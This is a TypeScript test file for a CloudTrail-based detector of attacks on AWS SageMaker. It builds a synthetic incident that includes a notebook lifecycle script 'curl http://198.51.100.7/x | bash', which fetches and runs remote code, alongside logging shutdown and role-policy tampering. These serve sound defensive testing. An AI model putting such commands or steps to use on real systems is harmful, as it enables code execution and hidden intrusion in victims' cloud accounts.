import { describe, expect, it } from 'vitest';
import { stolenWhoAmI } from '../../../src/core/classify/rules/execution-role-session-outside/fixtures.js';
import redirectFixtures from '../../../src/core/classify/rules/inference-data-redirect/fixtures.js';
import { buildRules, createClassifier, queryFilter, watchedSources } from '../../../src/core/classify/index.js';
import { FileTally } from '../../../src/sources/files/tally.js';
import { prefilterSpec } from '../../../src/sources/files/prefilter.js';
import { JsonRecordScanner } from '../../../src/sources/files/scanner.js';
import { emptyStats } from '../../../src/sources/types.js';
import { FindingSchema } from '../../../src/core/finding.js';
import type { CloudTrailRecord } from '../../../src/core/cloudtrail.js';
import { PlaybookDataError } from '../../../src/errors.js';
import { crossCheck } from '../../../src/playbook/load.js';
import { ACCOUNT, OTHER_ACCOUNT, b64, classify, keyUser, rec, testPlaybook } from './helpers.js';

/** A small incident touching every rule, inside background and look-alike noise. */
const redirect = redirectFixtures.attack[0]!;

function corpus(): CloudTrailRecord[] {
  const t = (hhmmss: string) => ({ eventTime: `2026-11-27T${hhmmss}Z` });
  const iam = { eventSource: 'iam.amazonaws.com' };
  const role = `arn:aws:iam::${ACCOUNT}:role/ml/TrainerRole`;
  return [
    rec('CreateNotebookInstance', { notebookInstanceName: 'nb-1', instanceType: 'ml.g4dn.xlarge', roleArn: role }, t('09:00:00')),
    rec('CreateNotebookInstanceLifecycleConfig', { notebookInstanceLifecycleConfigName: 'lcc', onStart: [{ content: b64('curl http://198.51.100.7/x | bash') }] }, t('09:01:00')),
    rec('StopNotebookInstance', { notebookInstanceName: 'nb-1' }, t('09:02:00')),
    rec('UpdateNotebookInstance', { notebookInstanceName: 'nb-1', lifecycleConfigName: 'lcc' }, t('09:03:00')),
    rec('StartNotebookInstance', { notebookInstanceName: 'nb-1' }, t('09:04:00')),
    rec('CreatePresignedNotebookInstanceUrl', { notebookInstanceName: 'nb-1' }, t('09:05:00')),
    ...[1, 2, 3, 4, 5].map((i) =>
      rec('CreateTrainingJob', { trainingJobName: `tj-${i}`, roleArn: role, algorithmSpecification: { trainingImage: `${OTHER_ACCOUNT}.dkr.ecr.us-east-1.amazonaws.com/x:1` } }, t(`09:1${i}:00`)),
    ),
    rec('StopLogging', { name: 'management-events' }, { ...t('09:20:00'), eventSource: 'cloudtrail.amazonaws.com' }),
    rec('PutRolePolicy', { roleName: 'TrainerRole', policyName: 'p' }, { ...t('09:21:00'), ...iam }),
    ...[1, 2, 3, 4, 5].map((i) => rec('DescribeNotebookInstance', { notebookInstanceName: 'x' }, { ...t(`09:3${i}:00`), errorCode: 'AccessDenied' })),
    rec('StopMonitoringSchedule', { monitoringScheduleName: 'fraud-data-quality' }, t('09:40:00')),
    rec('CreateModelPackage', { modelPackageGroupName: 'fraud', modelApprovalStatus: 'Approved' }, t('09:41:00')),
    { ...stolenWhoAmI, ...t('09:42:00') },
    ...(redirect.records as CloudTrailRecord[]),
    // nb-1's lifecycle config rewritten in place, then nb-1 started again.
    rec('UpdateNotebookInstanceLifecycleConfig', { notebookInstanceLifecycleConfigName: 'lcc', onStart: [{ content: b64('echo hi') }] }, t('09:50:00')),
    rec('StartNotebookInstance', { notebookInstanceName: 'nb-1' }, t('09:55:00')),
    rec('UpdateDomain', { domainId: 'd-exampledom01', appNetworkAccessType: 'PublicInternetOnly' }, t('09:56:00')),
    rec('UpdateUserProfile', {
      domainId: 'd-exampledom01', userProfileName: 'maria',
      userSettings: { jupyterLabAppSettings: { lifecycleConfigArns: ['arn:aws:sagemaker:us-east-1:111122223333:studio-lifecycle-config/jl'] } },
    }, t('09:57:00')),
    // background and noise
    rec('CreateEndpoint', { endpointName: 'e' }, { ...t('08:00:00'), eventSource: 'metrics-sagemaker.amazonaws.com' }),
    rec('GetObject', { bucketName: 'b', key: 'sagemaker.amazonaws.com/x' }, { ...t('08:00:01'), eventSource: 's3.amazonaws.com', userIdentity: keyUser }),
    rec('ListBuckets', null, { ...t('08:00:02'), eventSource: 's3.amazonaws.com' }),
    rec('DescribeInstances', null, { ...t('08:00:03'), eventSource: 'ec2.amazonaws.com' }),
  ];
}

describe('createClassifier', () => {
  it('exercises every rule on the corpus, and every finding matches FindingSchema', () => {
    const findings = classify(corpus());
    const pb = testPlaybook();
    expect(new Set(findings.map((f) => f.ruleId))).toEqual(new Set(pb.rules.rules.map((r) => r.id)));
    for (const f of findings) expect(FindingSchema.safeParse(f).success).toBe(true);
  });

  it('returns findings sorted by time, then id, whatever the push order', () => {
    const records = corpus();
    const forward = classify(records);
    const backward = classify([...records].reverse());
    expect(backward).toEqual(forward);
    const keys = forward.map((f) => [Date.parse(f.time), f.id] as const);
    expect(keys).toEqual([...keys].sort((a, b) => a[0] - b[0] || (a[1] < b[1] ? -1 : a[1] > b[1] ? 1 : 0)));
  });

  it('ignores records of unwatched and look-alike sources', () => {
    const noise = corpus().filter((r) => !['sagemaker.amazonaws.com', 'iam.amazonaws.com', 'cloudtrail.amazonaws.com', 'sts.amazonaws.com'].includes(r.eventSource));
    expect(noise).toHaveLength(4);
    expect(classify(noise)).toEqual([]);
  });
});

describe('watchedSources and the file prefilter', () => {
  it('watches the playbook sources and those rules name, not look-alikes', () => {
    expect([...watchedSources(testPlaybook())].sort()).toEqual([
      'cloudtrail.amazonaws.com',
      'iam.amazonaws.com',
      'logs.amazonaws.com',
      'organizations.amazonaws.com',
      'sagemaker.amazonaws.com',
      'sts.amazonaws.com',
    ]);
  });

  /** The records the file source yields for this JSON Lines text when prefiltering as detect does. */
  function prefiltered(records: readonly CloudTrailRecord[]): CloudTrailRecord[] {
    const pb = testPlaybook();
    const tally = new FileTally(emptyStats(), prefilterSpec(queryFilter(pb), EVERYTHING));
    const scanner = new JsonRecordScanner(tally);
    scanner.push(Buffer.from(records.map((r) => JSON.stringify(r)).join('\n'), 'utf8'));
    return tally.out as CloudTrailRecord[];
  }
  const EVERYTHING = { start: null, end: new Date('2100-01-01T00:00:00Z') };

  it('gives identical findings with and without the prefilter, and skips unwatched records', () => {
    const pb = testPlaybook();
    const records = corpus();
    const kept = prefiltered(records);
    expect(classify(kept, pb)).toEqual(classify(records, pb));
    expect(records.length - kept.length).toBe(4); // the metrics-sagemaker look-alike, GetObject, ListBuckets, DescribeInstances
  });

  it('keeps denied calls on unwatched services for failed-call-burst', () => {
    const probe = rec('ListBuckets', null, { eventSource: 's3.amazonaws.com', errorCode: 'AccessDenied' });
    const ok = rec('ListBuckets', null, { eventSource: 's3.amazonaws.com' });
    expect(prefiltered([probe, ok])).toEqual([probe]);
  });
});

describe('rule loading', () => {
  it('accepts the real rules (their meta.ts) with every registered rule', () => {
    expect(buildRules(testPlaybook())).toHaveLength(19);
  });

  it('fails clearly when the rules\' data names a rule with no implementation', () => {
    const pb = testPlaybook();
    pb.rules.rules.push({ ...pb.rules.rules[0]!, id: 'made-up-rule' });
    expect(() => createClassifier(pb)).toThrow(PlaybookDataError);
    expect(() => createClassifier(pb)).toThrow('playbook data rules/: no implementation for rule made-up-rule (each rule folder needs a rule.ts, listed in registry.ts)');
  });

  it("names the rule's meta.ts when it names an unknown scenario", () => {
    const other = testPlaybook();
    other.rules.rules.find((r) => r.id === 'log-tampering')!.scenarios = ['no-such-scenario'];
    expect(() => crossCheck(other)).toThrow("playbook data rules/log-tampering/meta.ts: unknown scenario 'no-such-scenario'");
  });

  it('fails clearly when an implemented rule is missing from the rules\' data', () => {
    const pb = testPlaybook();
    pb.rules.rules = pb.rules.rules.filter((r) => r.id !== 'log-tampering');
    expect(() => createClassifier(pb)).toThrow('playbook data rules/: rule log-tampering is implemented but missing from the data (each rule folder needs a meta.ts, listed in rules/metadata.ts)');
  });

  it('fails clearly when a rule\'s params do not fit its schema', () => {
    const pb = testPlaybook();
    const burst = pb.rules.rules.find((r) => r.id === 'creation-burst')!;
    burst.params = { ...burst.params, threshold: 'five' };
    expect(() => createClassifier(pb)).toThrow(/^playbook data rules\/creation-burst\/meta\.ts: params\.threshold: /);
    const lcc = pb.rules.rules.find((r) => r.id === 'lifecycle-script-suspicious')!;
    burst.params = { ...burst.params, threshold: 5 };
    lcc.params = { ...lcc.params, indicators: [{ label: 'broken', pattern: '(' }] };
    expect(() => createClassifier(pb)).toThrow('playbook data rules/lifecycle-script-suspicious/meta.ts: params.indicators.0.pattern: not a valid regular expression');
  });
});
